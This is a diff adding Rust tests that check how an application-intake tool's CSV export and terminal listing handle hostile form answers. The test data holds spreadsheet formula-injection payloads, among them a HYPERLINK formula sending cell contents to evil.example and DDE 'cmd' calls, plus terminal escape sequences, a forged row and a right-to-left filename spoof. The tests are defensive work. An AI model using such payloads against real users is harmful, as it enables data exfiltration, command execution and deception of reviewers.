@@ -71,6 +71,113 @@ fn exported(site: &TestSite) -> Vec<serde_json::Value> {
     serde_json::from_str(&run.stdout).unwrap()
 }
 
+const FORMULAS: &[&str] = &[
+    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3",
+    "\tx",
+    "\rx",
+    "  =1+1",
+];
+
+#[test]
+fn formulas_in_answers_are_text_in_the_csv_and_exact_in_json() {
+    let site = site_with("");
+    let server = production(&site);
+    for name in FORMULAS {
+        let form = Form::valid().set("name", name).set("q_why", "=1+1");
+        status(apply(&server, &form), 200);
+    }
+    let csv_path = site.path("export.csv");
+    applications(
+        &site,
+        &[
+            "export",
+            "--format",
+            "csv",
+            "-o",
+            csv_path.to_str().unwrap(),
+        ],
+    )
+    .success();
+    let raw = std::fs::read_to_string(&csv_path).unwrap();
+    let mut reader = csv::Reader::from_reader(raw.as_bytes());
+    let header = reader.headers().unwrap().clone();
+    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
+    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
+    assert_eq!(rows.len(), FORMULAS.len());
+    for (row, name) in rows.iter().zip(FORMULAS) {
+        assert_eq!(&row[col("name")], format!("'{name}"), "{raw}");
+        assert_eq!(&row[col("q_why")], "'=1+1");
+        assert_eq!(&row[col("email")], "ada@example.com");
+    }
+    // Every cell is quoted, the quote mark inside it.
+    assert!(raw.starts_with("\"id\",\"received_at\""), "{raw}");
+    for name in FORMULAS {
+        let cell = format!("\"'{}\"", name.replace('"', "\"\""));
+        assert!(raw.contains(&cell), "{cell} not in {raw}");
+    }
+    let names: Vec<String> = exported(&site)
+        .iter()
+        .map(|a| a["answers"]["name"].as_str().unwrap().to_string())
+        .collect();
+    assert_eq!(names, FORMULAS);
+}
+
+/// A name that would print a second row in `list` and codes a terminal obeys.
+const FORGER: &str = "Mallory\x1b]0;owned\x07\x1b[2J\n99  2026-11-23T00:00:00Z  backend-engineer  Forged  forged@example.com  1\r\u{202E}gpj.exe\u{9b}";
+
+#[test]
+fn control_characters_in_answers_are_shown_escaped_and_kept_in_json() {
+    let site = site_with("");
+    let server = production(&site);
+    let letter = "Dear team,\n\x1b[31mred\rApplication   1\nBye\u{2066}";
+    let form = Form::valid()
+        .set("name", FORGER)
+        .set("cover_letter", letter)
+        .set("q_why", "why\x1b[8m hidden");
+    status(apply(&server, &form), 200);
+    let forbidden = |text: &str| {
+        text.chars()
+            .find(|&c| (c.is_control() && c != '\n') || ('\u{202A}'..='\u{2069}').contains(&c))
+    };
+    let list = applications(&site, &["list"]).success();
+    assert_eq!(forbidden(&list.stdout), None, "{:?}", list.stdout);
+    assert_eq!(list.stdout.lines().count(), 2, "{}", list.stdout);
+    assert!(
+        list.stdout
+            .contains("Mallory\\u{1b}]0;owned\\u{7}\\u{1b}[2J\\n99  "),
+        "{}",
+        list.stdout
+    );
+    let show = applications(&site, &["show", "1"]).success();
+    assert_eq!(forbidden(&show.stdout), None, "{:?}", show.stdout);
+    assert!(
+        show.stdout.contains("\\r\\u{202e}gpj.exe\\u{9b}"),
+        "{}",
+        show.stdout
+    );
+    // Our lines start with a label; every line of a multi-line answer is indented.
+    let mut labels = Vec::new();
+    for line in show.stdout.lines() {
+        if !line.starts_with("    ") {
+            labels.push(line.split([' ', ':']).next().unwrap().to_string());
+        }
+    }
+    assert!(
+        labels.iter().all(|l| !l.is_empty() && l != "99"),
+        "{labels:?}"
+    );
+    assert!(show.stdout.contains("Cover letter:\n    Dear team,\n    \\u{1b}[31mred\\rApplication   1\n    Bye\\u{2066}\n"), "{}", show.stdout);
+    let stored = &exported(&site)[0]["answers"];
+    assert_eq!(stored["name"], FORGER);
+    assert_eq!(stored["cover_letter"], letter);
+    let listed = applications(&site, &["list", "--format", "json"]).success();
+    let listed: serde_json::Value = serde_json::from_str(&listed.stdout).unwrap();
+    assert_eq!(listed[0]["answers"]["q_why"], "why\x1b[8m hidden");
+}
+
 fn zip_with(entries: &[(&str, &[u8])]) -> Vec<u8> {
     use std::io::Write;
     let mut out = std::io::Cursor::new(Vec::new());
